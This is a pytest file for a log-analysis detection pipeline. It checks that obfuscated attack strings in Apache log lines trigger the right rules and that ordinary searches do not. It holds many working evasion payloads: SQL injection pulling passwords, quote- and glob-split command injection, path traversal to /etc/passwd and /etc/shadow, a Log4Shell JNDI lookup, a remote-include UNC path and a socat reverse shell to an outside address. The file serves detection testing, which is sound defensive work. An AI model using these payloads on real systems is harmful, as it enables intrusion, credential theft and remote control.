"""The red-team evasions confirmed at 5d85b9d, each as a whole log line through the pipeline,
and the ordinary searches that raised a critical alert, which must raise nothing."""

from __future__ import annotations

import pytest

from lwsyslog.config import load_config
from lwsyslog.events import Origin
from lwsyslog.pipeline import Pipeline
from lwsyslog.severity import Severity

_HEAD = '203.0.113.9 - - [07/Dec/2026:10:00:00 +0000] "GET '
_TAIL = ' HTTP/1.1" 200 512 "-" "Mozilla/5.0"'
_PADDING = "".join(f"%u{0x4E00 + i:04x}" for i in range(65))


def _line(target: str) -> str:
    return f"{_HEAD}{target}{_TAIL}"


def _ua(user_agent: str) -> str:
    return f'{_HEAD}/ HTTP/1.1" 200 512 "-" "{user_agent}"'


EVASIONS = [
    # 1. MySQL "#" and "--" line comments as white space (sqlmap space2hash, space2dash).
    (_line("/item.php?id=1%23upgPydUzKpMX%0AAND%23RcDKhIr%0A9227=9227"), "sqli-blind-probe"),
    (
        _line("/item.php?id=-1%23a%0AUNION%23b%0ASELECT%23c%0Ausername,password%23d%0AFROM"),
        "sqli-union-select",
    ),
    (_line("/item.php?id=1--upgPydUzKpMX%0AAND--RcDKhIr%0A9227=9227"), "sqli-blind-probe"),
    # 2. Blind probes without a quote, the sub-query inside functions.
    (
        _line(
            "/item.php?id=1%20AND%20ascii(substring((select%20password%20from%20users"
            "%20limit%201),1,1))%3E64"
        ),
        "sqli-subquery-condition",
    ),
    (
        _line(
            "/item.php?id=1%20AND%20ISNULL(ASCII(SUBSTRING(CAST((SELECT%20LOWER(name)%20FROM"
            "%20users)%20AS%20NVARCHAR(4000)),1,1)),0)%3E64"
        ),
        "sqli-subquery-condition",
    ),
    (_line("/item.php?id=1%20AND%209227%20BETWEEN%209227%20AND%209227"), "sqli-blind-probe"),
    (
        _line("/item.php?id=1%20AND%20length((select%20password%20from%20users))=32"),
        "sqli-subquery-condition",
    ),
    (_line("/item.php?id=1%20AND%20GREATEST(9227,9226)=9227"), "sqli-blind-probe"),
    (
        _line("/item.php?id=1%20AND%20EXP(~(SELECT%20*%20FROM%20(SELECT%20USER())a))"),
        "sqli-db-fingerprint",
    ),
    # 3. Command names split by quotes.
    (_line("/ping.php?ip=127.0.0.1;c'a't%20/e't'c/pa's'swd"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1;who'am'i"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1;c%22a%22t%20/etc/hosts"), "command-injection-chain"),
    # 4. Command substitution in the User-Agent (the Cookie's is a sample of the rule).
    (_ua("$(sleep 10)"), "command-injection-chain"),
    (_ua("Mozilla/5.0 `nslookup abc.oast.example`"), "command-injection-chain"),
    # 5. A shell comment after the command.
    (_line("/ping.php?ip=127.0.0.1;id%23"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1|whoami%23"), "command-injection-chain"),
    # 6. A payload behind 65 distinct %u escapes (the cap of distinct pieces).
    (
        _line(f"/x?a={_PADDING}&id=1%2527%2520UNION%2520SELECT%2520password%2520FROM%2520users--"),
        "sqli-union-select",
    ),
    (_line(f"/x?a={_PADDING}&f=..%252f..%252f..%252fetc%252fpasswd"), "path-traversal-dotdot"),
    # 7. Empty and "." segments in /etc/passwd.
    (_line("/view.php?file=/etc//passwd"), "path-traversal-system-file"),
    (_line("/view.php?file=/etc/./passwd"), "path-traversal-system-file"),
    # 8. An encoded "&" encoded twice, or as IIS's %u0026.
    (_line("/diag.asp?ip=127.0.0.1%2526whoami"), "command-injection-encoded-ampersand"),
    (_line("/diag.asp?ip=127.0.0.1%u0026whoami"), "command-injection-encoded-ampersand"),
    # 8. A JNDI lookup as the Basic-auth user name; a UNC path to a script.
    (
        "203.0.113.9 - ${jndi:ldap://198.51.100.9/a} [07/Dec/2026:10:00:00 +0000] "
        '"GET /private/ HTTP/1.1" 401 381 "-" "Mozilla/5.0"',
        "log4shell-jndi",
    ),
    (_line("/view.php?page=%5c%5c198.51.100.9%5cshare%5cshell.php"), "file-inclusion-remote"),
]

# What the fixes above left (the audit's final list, 2026-12-07).
EVASIONS_LEFT = [
    # 1. The "#...\n" and "--...\n" separators in every SQL rule that reads a condition.
    (_line("/item.php?id=1'%23x%0AOR%23y%0A1=1"), "sqli-tautology"),
    (_line("/item.php?id=1%23x%0AOR%23y%0AX=%27ss"), "sqli-string-condition"),
    (_line("/item.php?id=1;%23x%0ADROP%23y%0ATABLE%23z%0Ausers"), "sqli-stacked-query"),
    (_line("/item.php?id=1;--x%0Adeclare--y%0A@q%20varchar(99)"), "sqli-stacked-query"),
    # 2. A backslash inside a command name (Apache logs "\\" as "\\\\"): the shell drops it.
    (_line("/ping.php?ip=127.0.0.1;w\\\\hoami"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1;i\\\\d"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1%7Cc%5Ca%5Ct%20/etc/passwd"), "command-injection-chain"),
    # 3. MySQL's \N (NULL) glued to UNION.
    (_line("/item.php?id=%5cNUNION%20SELECT%201,2"), "sqli-union-select"),
    # 4. An encoded absolute system path as one segment of the URL path.
    (_line("/download/file/%252fetc%252fpasswd"), "path-traversal-system-file"),
    (_line("/download/file/%2Fetc%2Fshadow"), "path-traversal-system-file"),
    # 5. Two-letter command names split by a pair of quotes.
    (_line("/ping.php?ip=127.0.0.1;i'd'"), "command-injection-chain"),
    (_line("/ping.php?ip=127.0.0.1;l's'"), "command-injection-chain"),
    # 5. BETWEEN followed by a comment or another parameter.
    (_line("/item.php?id=1%20AND%209227%20BETWEEN%209227%20AND%209227--%20-"), "sqli-blind-probe"),
    (_line("/item.php?id=1%20AND%209227%20BETWEEN%209227%20AND%209227&x=1"), "sqli-blind-probe"),
]

# The command-injection evasions of the second audit (2026-12-07), each run by dash, the
# /bin/sh PHP's system() calls.
EVASIONS_DASH = [
    # 1. Globs, empty expansions and a backslash-newline inside the command name.
    _line("/ping.php?ip=127.0.0.1;/bin/wh?ami"),
    _line("/ping.php?ip=127.0.0.1;/usr/bin/who*i"),
    _line("/ping.php?ip=127.0.0.1;who$()ami"),
    _line("/ping.php?ip=127.0.0.1;wh$@oami"),
    _line("/ping.php?ip=127.0.0.1;w${x}hoami"),
    _line("/ping.php?ip=127.0.0.1|c$@at%20index.php"),
    _line("/ping.php?ip=127.0.0.1;w%5C%0Ahoami"),
    # 2. A substitution of printf, a subshell, a name built from variables.
    _line("/ping.php?ip=127.0.0.1;$(printf%20id)"),
    _line("/ping.php?ip=127.0.0.1;(id)"),
    _line("/ping.php?ip=127.0.0.1;a=wh;b=oami;$a$b"),
    # 3. Commands that were not in the word list, and files run by their path.
    _line("/ping.php?ip=127.0.0.1;tac%20index.php"),
    _line("/ping.php?ip=127.0.0.1;head%20-c%20999%20config.php"),
    _line("/ping.php?ip=127.0.0.1;socat%20tcp:1.2.3.4:4444%20exec:bash"),
    _line("/ping.php?ip=127.0.0.1;./x.sh"),
    _line("/ping.php?ip=127.0.0.1;/tmp/x"),
    _line("/ping.php?ip=127.0.0.1;.%20/tmp/x"),
    _line("/ping.php?ip=127.0.0.1;find%20/%20-name%20x"),
    _line("/ping.php?ip=127.0.0.1;awk%20'%7Bprint%7D'%20/etc/passwd"),
]

ORDINARY = [
    _line("/search?q=european+union+select+committee"),
    _line("/books/search?q=javascript:+the+good+parts"),
    _line("/search?q=%22select%22+element+not+working"),
    _line("/docs/etc/passwd-reset.html"),
    _line("/docs/etc%2Fpasswd-reset.html"),
]


@pytest.fixture(scope="module")
def pipeline() -> Pipeline:
    return Pipeline(load_config([]))


@pytest.mark.parametrize(("line", "rule_id"), EVASIONS, ids=[e[0][48:100] for e in EVASIONS])
def test_a_red_team_evasion_is_found(pipeline: Pipeline, line: str, rule_id: str) -> None:
    result = pipeline.process(line, Origin("red-team", 1))
    assert rule_id in {finding.rule_id for finding in result.findings}


@pytest.mark.parametrize(
    ("line", "rule_id"), EVASIONS_LEFT, ids=[e[0][48:100] for e in EVASIONS_LEFT]
)
def test_an_evasion_left_by_the_first_fixes_is_found(
    pipeline: Pipeline, line: str, rule_id: str
) -> None:
    result = pipeline.process(line, Origin("red-team", 2))
    assert rule_id in {finding.rule_id for finding in result.findings}


@pytest.mark.parametrize("line", ORDINARY, ids=[line[48:100] for line in ORDINARY])
def test_an_ordinary_search_raises_nothing_of_medium_or_more(pipeline: Pipeline, line: str) -> None:
    result = pipeline.process(line, Origin("false-flag", 1))
    serious = [f.rule_id for f in result.findings if f.severity.rank >= Severity.MEDIUM.rank]
    assert serious == []


@pytest.mark.parametrize("line", EVASIONS_DASH, ids=[line[48:100] for line in EVASIONS_DASH])
def test_a_command_dash_runs_is_a_command_injection_chain(pipeline: Pipeline, line: str) -> None:
    result = pipeline.process(line, Origin("red-team", 3))
    assert "command-injection-chain" in {finding.rule_id for finding in result.findings}
